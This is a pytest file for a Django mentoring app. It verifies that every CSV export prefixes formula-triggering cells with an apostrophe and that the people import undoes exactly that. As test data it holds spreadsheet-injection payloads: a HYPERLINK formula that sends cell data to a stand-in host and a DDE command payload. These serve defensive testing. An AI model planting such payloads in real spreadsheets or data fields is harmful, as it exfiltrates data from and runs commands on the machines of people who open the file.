"""Every CSV the app produces is safe to open in a spreadsheet (security review, issue 10 A):
a cell that starts with =, +, -, @, tab or carriage return gets a leading apostrophe, so
it is shown as text and never run as a formula. The people import undoes exactly that."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from evaluation.models import Recommendation
from evaluation.services import recommendation_submit
from mentoring.models import User
from mentoring.people_import import plan_people_import
from mentoring.selectors import people_for_export
from mentoring.services import people_export_csv, people_import_apply
from mentoring.spreadsheet import FORMULA_TRIGGERS, spreadsheet_cell, spreadsheet_value
from programs.models import Program
from programs.services import program_transition
from tests.sessions.conftest import confirmed_pairs

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.test/?"&A1,"x")'
HOSTILE = [EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


def rows_of(content: bytes | str) -> list[list[str]]:
    text = content.decode() if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_TRIGGERS):
                float(cell)  # only a number may start with "-" or "+"


# --- the rule --------------------------------------------------------------------------------------
@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_a_formula_gets_an_apostrophe(value):
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Alice", "", "O'Brien", "a=b", " =x", "Mid-level", "2027-03-10"])
def test_ordinary_text_is_left_alone(value):
    assert spreadsheet_cell(value) == value


def test_numbers_the_app_computes_stay_numbers():
    assert [spreadsheet_cell(value) for value in (-5, 3.5, 0, -0.25)] == [-5, 3.5, 0, -0.25]
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell("-5") == "'-5"  # text that looks like a number is still text


@pytest.mark.parametrize("value", [*HOSTILE, "'=already", "''+twice", "'", "'plain", "plain", "", "-", "'-"])
def test_import_undoes_exactly_what_export_added(value):
    assert spreadsheet_value(spreadsheet_cell(value)) == value


# --- every CSV route -------------------------------------------------------------------------------
@pytest.fixture
def hostile_program(hr):
    program, ((junior, senior),) = confirmed_pairs(hr)
    program_transition(program=program, to_status=Program.Status.ACTIVE, by=hr)
    User.objects.filter(pk=junior.pk).update(first_name=EVIL, last_name="@SUM(A1)")
    User.objects.filter(pk=senior.pk).update(first_name="+x", last_name="-y", title="\tTab title")
    junior.refresh_from_db()
    recommendation = recommendation_submit(
        program=program, by=junior, title="Dev containers", description="d", area="technology", expected_impact="high"
    )
    Recommendation.objects.filter(pk=recommendation.pk).update(title=EVIL, leadership_response="-1+1", outcome="\rCR")
    return program


def csv_routes(program):
    dashboard = reverse("evaluation:dashboard", args=[program.pk])
    tables = ["funnel", "meetings", "pairs", "checkins", "results", "recommendations", "curriculum"]
    return [
        reverse("mentoring:people_export"),
        reverse("evaluation:recommendation_board", args=[program.pk]) + "?format=csv",
        reverse("mentoring_sessions:hr_meetings", args=[program.pk]) + "?format=csv",
        *[f"{dashboard}?csv={table}" for table in tables],
    ]


def test_no_csv_route_lets_a_formula_through(hr_client, hostile_program):
    seen = ""
    for url in csv_routes(hostile_program):
        response = hr_client.get(url)
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), url
        assert_no_formula(rows_of(response.getvalue()))
        seen += response.getvalue().decode()
    # The hostile text is still there, only defused.
    assert f"'{EVIL}".replace('"', '""') in seen
    assert "'+x" in seen and "'-y" in seen and "'@SUM(A1)" in seen and "'\tTab title" in seen
    assert "'-1+1" in seen and "'\rCR" in seen


def test_recommendation_export_defuses_the_title(hr_client, hostile_program):
    response = hr_client.get(reverse("evaluation:recommendation_board", args=[hostile_program.pk]), {"format": "csv"})
    header, row = rows_of(response.content)
    assert row[0] == "'" + EVIL and row[5] == "'-1+1" and row[7] == "'\rCR"


def test_pairs_table_defuses_names(hr_client, hostile_program):
    response = hr_client.get(reverse("evaluation:dashboard", args=[hostile_program.pk]), {"csv": "pairs"})
    header, *rows = rows_of(response.getvalue())
    assert rows and all(not row[0].startswith("=") for row in rows)
    assert any(row[0].startswith("'=HYPERLINK") or row[0].startswith("'+x") for row in rows)


def test_numeric_tables_keep_plain_numbers(hr_client, hostile_program):
    response = hr_client.get(reverse("mentoring_sessions:hr_meetings", args=[hostile_program.pk]), {"format": "csv"})
    header, *rows = rows_of(response.content)
    assert rows and all(cell.isdigit() for row in rows for cell in row)


def test_export_command_defuses_names(hostile_program, capsys):
    call_command("export_people")
    rows = rows_of(capsys.readouterr().out)
    assert_no_formula(rows)
    assert ["'+x", "'-y", "'\tTab title"] in [row[1:4] for row in rows]


# --- export → import round trip --------------------------------------------------------------------
ROUND_TRIP_NAMES = [("=cmd", "+x"), ("-y", "@z"), ("'=already", "''+twice"), ("'", "O'Brien"), ("\tTab", "Editors'")]


def test_people_export_import_round_trips_hostile_names(hr):
    for index, (first, last) in enumerate(ROUND_TRIP_NAMES):
        User.objects.create(email=f"p{index}@acme.test", first_name=first, last_name=last, title="-" if index else "=1+1")
    before = sorted(User.objects.values_list("email", "first_name", "last_name", "title"))
    exported = people_export_csv(people=people_for_export())
    assert_no_formula(rows_of(exported))
    plan = plan_people_import(exported)
    assert plan.errors == [] and plan.unchanged == User.objects.count(), [(c.email, c.changes) for c in plan.changes if c.changes]
    User.objects.all().delete()
    people_import_apply(content=exported)
    after = sorted(User.objects.values_list("email", "first_name", "last_name", "title"))
    assert after == before


def test_an_apostrophe_before_a_formula_character_is_read_as_the_export_marker():
    people_import_apply(content="email,first_name,last_name,level\nx@acme.test,'=cmd,''@z,mid\ny@acme.test,'plain,O',mid\n")
    assert User.objects.get(email="x@acme.test").get_full_name() == "=cmd '@z"
    assert User.objects.get(email="y@acme.test").get_full_name() == "'plain O'"
